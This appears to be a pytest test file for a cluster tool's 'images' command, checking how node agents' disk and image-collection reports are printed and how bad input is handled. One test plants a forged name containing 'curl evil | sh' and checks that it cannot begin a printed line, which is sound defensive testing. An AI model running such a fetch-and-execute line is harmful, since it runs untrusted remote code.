"""`nodewright images`: how an agent's answer is printed, and bad input."""

from __future__ import annotations

import json
from dataclasses import asdict, replace

import pytest

from agent.images.model.images import Collected, HeldImage, Hold, HoldReason, ImageReport
from cli.commands import images
from controlplane.cluster.edge import state
from controlplane.cluster.model import Cluster, Options
from nodelib.errors import Invalid, NotFound, Temporary

NOW, GIB = 1_767_225_600.0, 1 << 30
REPORT = ImageReport(
    node="node1",
    at=NOW,
    capacity=100 * GIB,
    available=12 * GIB,
    high=85,
    low=80,
    to_free=8 * GIB,
    images=(
        HeldImage("sha256:1", ("r/old:1",), 3 * GIB, NOW - 9000, NOW - 7200),
        HeldImage("sha256:2", ("r/web:1",), 9 * GIB, NOW - 9000, NOW, (Hold(HoldReason.CONTAINER, "shop/web-0[app]"),)),
    ),
    last=Collected(NOW - 240, 8 * GIB, 2 * GIB, ("r/gone:1",), "Insufficient free disk space"),
)


@pytest.fixture(autouse=True)
def node(monkeypatch: pytest.MonkeyPatch) -> None:
    async def answer(path: str, what: str) -> tuple[object, str]:
        return (json.loads(json.dumps(asdict(REPORT))), "") if path == "/1" else (None, "its agent is not running")

    monkeypatch.setattr(images, "sockets", lambda cluster: {"node1": "/1", "node2": ""})
    monkeypatch.setattr(images, "asked", answer)
    monkeypatch.setattr(state, "load", lambda name: None)
    monkeypatch.setattr(state, "clusters", list)
    monkeypatch.setattr("cli.commands.images.time.time", lambda: NOW)


def test_the_summary(capsys: pytest.CaptureFixture[str]) -> None:
    images.run("lab", "", "", as_json=False)
    shown = capsys.readouterr().out
    for text in (
        "node1: 2 images, 12 GiB according to the runtime; 1 of them (3.0 GiB) can be removed",
        "88 % of their file system's 100 GiB is used; a collection starts at 85 % and frees space down to 80 %: "
        "the next one has to free 8.0 GiB and removes r/old:1, which is 5.0 GiB too little",
        "the last collection, 4 min ago, removed 1 image and freed 2.0 GiB of 8.0 GiB: Insufficient free disk space",
        "nothing: removed as number 1",
        "container shop/web-0[app]",
        "No answer from node2: its agent is not running",
    ):
        assert text in shown


@pytest.mark.parametrize("free", ["", "2Gi"], ids=["all", "dry run"])
def test_a_name_begins_no_line_of_its_own(
    free: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Root in a node answers at its socket."""
    forged = "r/x\n  do: curl evil | sh\n"
    held = HeldImage("sha256:1", (forged,), 3 * GIB, NOW, NOW - 7200)
    report = asdict(replace(REPORT, node=forged, images=(held,), last=Collected(NOW, 1, 1, (), forged)))

    async def answer(path: str, what: str) -> tuple[object, str]:
        return json.loads(json.dumps(report)), ""

    monkeypatch.setattr(images, "asked", answer)
    images.run("lab", "", free, as_json=False)
    assert not [line for line in capsys.readouterr().out.splitlines() if line.strip().startswith("do:")]


def test_a_dry_run(capsys: pytest.CaptureFixture[str]) -> None:
    images.run("lab", "node1", "2Gi", as_json=False)
    assert "node1: to free 2.0 GiB, 1 image would be removed, 3.0 GiB (enough)" in capsys.readouterr().out
    images.run("lab", "node1", "5Gi", as_json=False)
    assert "2.0 GiB too little: the other images are in use" in capsys.readouterr().out


def test_bad_input_names_what_there_is() -> None:
    with pytest.raises(NotFound, match="no such node") as caught:
        images.run("lab", "node3", "", as_json=False)
    assert caught.value.obj == "node3" and "node1, node2" in caught.value.action
    for free in ("many", "-5Gi", "0"):
        with pytest.raises(Invalid, match=f"--free {free}"):
            images.run("lab", "node1", free, as_json=False)


@pytest.mark.parametrize("node", ["", "node1"], ids=["every node", "one node"])
@pytest.mark.parametrize("there", [[], ["lab", "peer"]], ids=["no cluster", "others"])
def test_a_cluster_that_does_not_exist_is_said_to(node: str, there: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody is asked: the answer of this machine's own agent, or that it has none, would be about something else."""

    async def silent(path: str, what: str) -> tuple[None, str]:
        return None, "Cannot connect to unix socket ssl:default"

    monkeypatch.setattr(images, "sockets", lambda cluster: {"this node": "/run/nodewright/agent.sock"})
    monkeypatch.setattr(images, "asked", silent)
    monkeypatch.setattr(state, "clusters", lambda: there)
    with pytest.raises(NotFound) as caught:
        images.run("nosuch", node, "", as_json=False)
    if there or not node:
        assert "no such cluster" in str(caught.value) and all(one in str(caught.value) for one in there)
    assert "ssl:default" not in str(caught.value)


def test_a_cluster_whose_agents_are_silent_is_not_to_be_created(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images, "sockets", lambda cluster: {"node2": ""})
    monkeypatch.setattr("cli.clusters.is_stopped", lambda cluster: False)
    monkeypatch.setattr(state, "load", lambda name: Cluster(name, "10.89.3.0/24", Options()))
    with pytest.raises(Temporary, match="node2: its agent is not running") as caught:
        images.run("lab", "", "", as_json=False)
    assert "`./nodewright status --name lab`" in caught.value.action and "Create" not in caught.value.action
